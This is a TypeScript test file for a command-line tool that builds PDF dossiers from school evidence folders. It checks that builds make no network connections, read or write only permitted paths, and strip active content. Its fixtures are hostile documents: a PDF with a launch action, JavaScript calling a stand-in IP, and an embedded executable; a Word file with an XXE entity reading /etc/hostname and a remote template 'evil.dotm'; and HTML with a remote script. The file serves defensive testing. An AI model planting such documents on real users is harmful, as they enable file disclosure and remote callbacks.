import { spawnSync } from 'node:child_process';
import { mkdirSync, readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import sharp from 'sharp';
import { zipSync, strToU8 } from 'fflate';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { byteHashes } from './hostile-trees.js';
import { makeWorkspace } from '../build/workspace.js';

const ROOT = fileURLToPath(new URL('../..', import.meta.url)).replace(/\/$/, '');
const MAIN = join(ROOT, 'dist/cli/main.js');
const PACK = join(ROOT, 'test/packs/wenming-xiaoyuan');
/** Tried rather than looked up: a container can have the program and not the right. */
const canTrace = spawnSync('strace', ['-f', '-o', '/dev/null', 'true']).status === 0;
const canUnshare = spawnSync('unshare', ['-n', 'true']).status === 0;
const isRoot = process.getuid?.() === 0;
const canBeNobody = isRoot && spawnSync('setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', 'true']).status === 0;
for (const [tool, there] of [['strace', canTrace], ['unshare -n', canUnshare], ['setpriv', canBeNobody]] as const) if (!there) console.log(`${tool} cannot be used here: the test that needs it does not run.`);

let folder: string;
const at = (path: string) => join(folder, path);

/** Evidence that asks for something outside: a PDF that launches and phones, a Word file with a remote template and picture, HTML with scripts. */
beforeAll(async () => {
  const pdf = await PDFDocument.create();
  pdf.addPage([595, 842]).drawText('Minutes of 2022', { x: 80, y: 700 });
  pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.obj({ S: 'Launch', F: PDFString.of('/bin/touch') }));
  pdf.addJavaScript('phone', 'app.launchURL("http://192.0.2.1/", true)');
  await pdf.attach(Buffer.from('MZ'), 'run.exe');
  const external = (type: string, target: string) => `<Relationship Id="r${type}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`;
  const word = zipSync({
    '[Content_Types].xml': strToU8('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'),
    '_rels/.rels': strToU8('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'),
    'word/document.xml': strToU8('<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/hostname">]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>师德师风情况说明</w:t></w:r></w:p><w:p><w:r><w:t>近三年（2021—2024年）未发生事件。</w:t></w:r></w:p></w:body></w:document>'),
    'word/_rels/document.xml.rels': strToU8(`<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${external('attachedTemplate', 'http://192.0.2.1/evil.dotm')}${external('image', 'file:///etc/hostname')}</Relationships>`),
  });
  folder = makeWorkspace({
    'evidence/project.yaml': `standard: ${JSON.stringify(PACK)}\ndistrict: 云山小学\napplicant: 云山小学德育处\nasOf: 2024-06-30\n`,
    'evidence/1-1 领导班子/1 创建方案/2 研究记录/会议记录2022年9月1日.pdf': await pdf.save(),
    'evidence/1-1 领导班子/2 师德师风/1 师德说明/师德说明.docx': word,
    'evidence/1-1 领导班子/2 师德师风/1 师德说明/网页.html': '<html><script src="http://192.0.2.1/x.js"></script><img src="file:///etc/hostname"><body>网页说明</body></html>',
    'evidence/2-1 校园环境/1 校园照片/校门.jpg': await sharp({ create: { width: 900, height: 700, channels: 3, background: '#345' } }).jpeg().toBuffer(),
  });
  mkdirSync(at('tmp'));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const build = (out: string) => [process.execPath, MAIN, 'build', folder, '--out', at(out), '--cache', at('cache'), '--quiet'];
const environment = () => ({ ...process.env, TMPDIR: at('tmp'), HOME: at('tmp') });

describe('a whole build', () => {
  it.skipIf(!canUnshare)('needs no network', () => {
    const { status, stderr } = spawnSync('unshare', ['-n', ...build('offline')], { env: environment(), encoding: 'utf8' });
    expect([status, stderr]).toEqual([1, '']);
  });

  it.skipIf(!canTrace)('touches nothing but evidence, pack, cache and out, starts nothing but itself and opens no connection', () => {
    const log = at('trace.txt');
    const { status } = spawnSync('strace', ['-f', '-qq', '-e', 'trace=openat,open,creat,execve,connect,unlink,unlinkat,rename,renameat,renameat2,mkdir,mkdirat,symlink,link', '-o', log, ...build('traced')], { env: environment(), maxBuffer: 1 << 28 });
    expect(status).toBe(1);
    const calls = readFileSync(log, 'utf8').split('\n').filter((line) => !/ = -1 E/.test(line));
    expect(calls.length).toBeGreaterThan(100);
    // Scans are read and pages laid out by processes of our own: nothing but ourselves is started. The trace cuts words off.
    const started = calls.filter((line) => /execve\(/.test(line)).map((line) => /execve\("([^"]+)", \["[^"]+"(?:, "--(?:expose-gc|max-semi-space-size=\d+)")*, "([^"]+)"/.exec(line) ?? [line, line, line]);
    expect(started.filter(([, program, script]) => program !== process.execPath || ![MAIN, join(ROOT, 'dist/workers/reader.js'), join(ROOT, 'dist/engines/typst-process.js')].some((own) => own.startsWith(script as string)))).toEqual([]);
    expect(calls.filter((line) => /connect\(/.test(line))).toEqual([]);
    const writes = calls.filter((line) => / (?:openat|open)\(.*(?:O_WRONLY|O_RDWR|O_CREAT)| (?:creat|unlink|unlinkat|rename|renameat2?|mkdir|mkdirat|symlink|link)\(/.test(line)).flatMap((line) => [...line.matchAll(/"([^"]+)"/g)].map((match) => match[1] as string));
    const own = [at('traced'), at('cache'), at('tmp'), at('.juanzong-traced')];
    expect(writes.length).toBeGreaterThan(10);
    expect(writes.filter((path) => !own.some((place) => path.startsWith(place)) && path !== folder && !/^\/dev\//.test(path))).toEqual([]);
    const reads = calls.flatMap((line) => /openat?\((?:AT_FDCWD, )?"([^"]+)"/.exec(line)?.[1] ?? []);
    const known = [ROOT, folder, '/proc/', '/sys/', '/dev/', '/usr/', '/lib', '/etc/ld.so', '/etc/ssl/', '/etc/fonts/', '/var/cache/fontconfig/', '/etc/localtime', process.execPath.replace(/\/bin\/node$/, '')];
    expect(reads.filter((path) => path.startsWith('/') && !known.some((place) => path.startsWith(place)))).toEqual([]);
    expect(reads).not.toContain('/etc/hostname');
  }, 240_000);

  it('copies no script, launch action or attached file into the dossier', () => {
    const out = ['offline', 'traced'].map((name) => at(`${name}/dossier/卷宗.pdf`)).find((path) => spawnSync('test', ['-e', path]).status === 0);
    if (out === undefined) expect(spawnSync(build('plain')[0] as string, build('plain').slice(1), { env: environment() }).status).toBe(1);
    const bytes = readFileSync(out ?? at('plain/dossier/卷宗.pdf')).toString('latin1');
    expect(bytes.match(/\/Launch|\/JavaScript|\/EmbeddedFile|launchURL|run\.exe/g) ?? []).toEqual([]);
  });
});

describe('evidence that may not be written', () => {
  it.skipIf(!isRoot)('is read from a mount that is read-only', ({ skip }) => {
    const before = byteHashes(at('evidence'));
    const evidence = at('evidence');
    if (spawnSync('mount', ['--bind', evidence, evidence]).status !== 0) skip('nothing can be mounted here');
    try {
      expect(spawnSync('mount', ['-o', 'remount,ro,bind', evidence]).status).toBe(0);
      expect(spawnSync('touch', [at('evidence/x')]).status).not.toBe(0);
      const { status, stderr } = spawnSync(process.execPath, build('read-only').slice(1), { env: environment(), encoding: 'utf8' });
      expect([status, stderr]).toEqual([1, '']);
    } finally {
      spawnSync('umount', [evidence]);
    }
    expect(byteHashes(at('evidence'))).toEqual(before);
  });

  it.skipIf(!canBeNobody)('is read all the same by someone who has no right to write it, and stays as it was', () => {
    const before = byteHashes(at('evidence'));
    spawnSync('chmod', ['-R', 'a+rX', folder]);
    mkdirSync(at('theirs'));
    spawnSync('chown', ['65534', at('theirs')]);
    const [node, main, command] = build('x');
    const { status, stderr } = spawnSync('setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', node as string, main as string, command as string, folder, '--out', at('theirs/out'), '--no-cache', '--quiet'], { env: { ...environment(), HOME: '/nonexistent' }, encoding: 'utf8' });
    expect([status, stderr]).toEqual([1, '']);
    expect(byteHashes(at('evidence'))).toEqual(before);
  });

  it.skipIf(!canBeNobody)('files and folders that may not be read are named, and the rest is done', () => {
    spawnSync('chmod', ['a-r', at('evidence/2-1 校园环境/1 校园照片/校门.jpg')]);
    mkdirSync(at('evidence/1-2 学生社团/锁着'), { recursive: true });
    spawnSync('chmod', ['700', at('evidence/1-2 学生社团/锁着')]);
    const [node, main] = build('x');
    const { stdout } = spawnSync('setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', node as string, main as string, 'build', folder, '--out', at('theirs/out'), '--no-cache', '--quiet', '--json'], { env: environment(), encoding: 'utf8', maxBuffer: 1 << 28 });
    const result = JSON.parse(stdout) as { verdict: string; problems: { code: string; file?: string; message: string }[] };
    expect(result.verdict).toBe('failed');
    expect(result.problems.filter((problem) => problem.code === 'readable/refused').map((problem) => problem.file)).toEqual(['2-1 校园环境/1 校园照片/校门.jpg']);
    expect(result.problems.map((problem) => problem.message).join()).toContain('锁着');
  });

  it.skipIf(!canBeNobody)('a place that may not be written is named, and nothing is left behind', () => {
    mkdirSync(at('closed'));
    const [node, main] = build('x');
    const { status, stderr } = spawnSync('setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', node as string, main as string, 'build', folder, '--out', at('closed/out'), '--no-cache', '--quiet'], { env: environment(), encoding: 'utf8' });
    expect(status).toBe(3);
    expect(stderr).toMatch(/无法写入“.*closed\/out”（EACCES）。原有成果未被改动。/);
  });
});

describe('a full disk', () => {
  const mount = () => spawnSync('mount', ['-t', 'tmpfs', '-o', 'size=300k', 'tmpfs', at('full')]).status === 0;
  it.skipIf(!isRoot)('is named, and the package that was there stays whole', ({ skip }) => {
    const evidence = byteHashes(at('evidence'));
    mkdirSync(at('full'));
    if (!mount()) skip('no file system can be mounted here');
    try {
      mkdirSync(at('full/out'));
      spawnSync('sh', ['-c', `echo old > "$0"`, at('full/out/result.json')]);
      const { status, stderr } = spawnSync(process.execPath, build('full/out').slice(1), { env: environment(), encoding: 'utf8' });
      expect(status).toBe(3);
      expect(stderr).toMatch(/无法写入.*ENOSPC.*原有成果未被改动/);
      expect(readFileSync(at('full/out/result.json'), 'utf8')).toBe('old\n');
      expect(spawnSync('ls', ['-A', at('full')], { encoding: 'utf8' }).stdout).toBe('out\n');
      expect(byteHashes(at('evidence'))).toEqual(evidence);
    } finally {
      spawnSync('umount', [at('full')]);
    }
  });
});
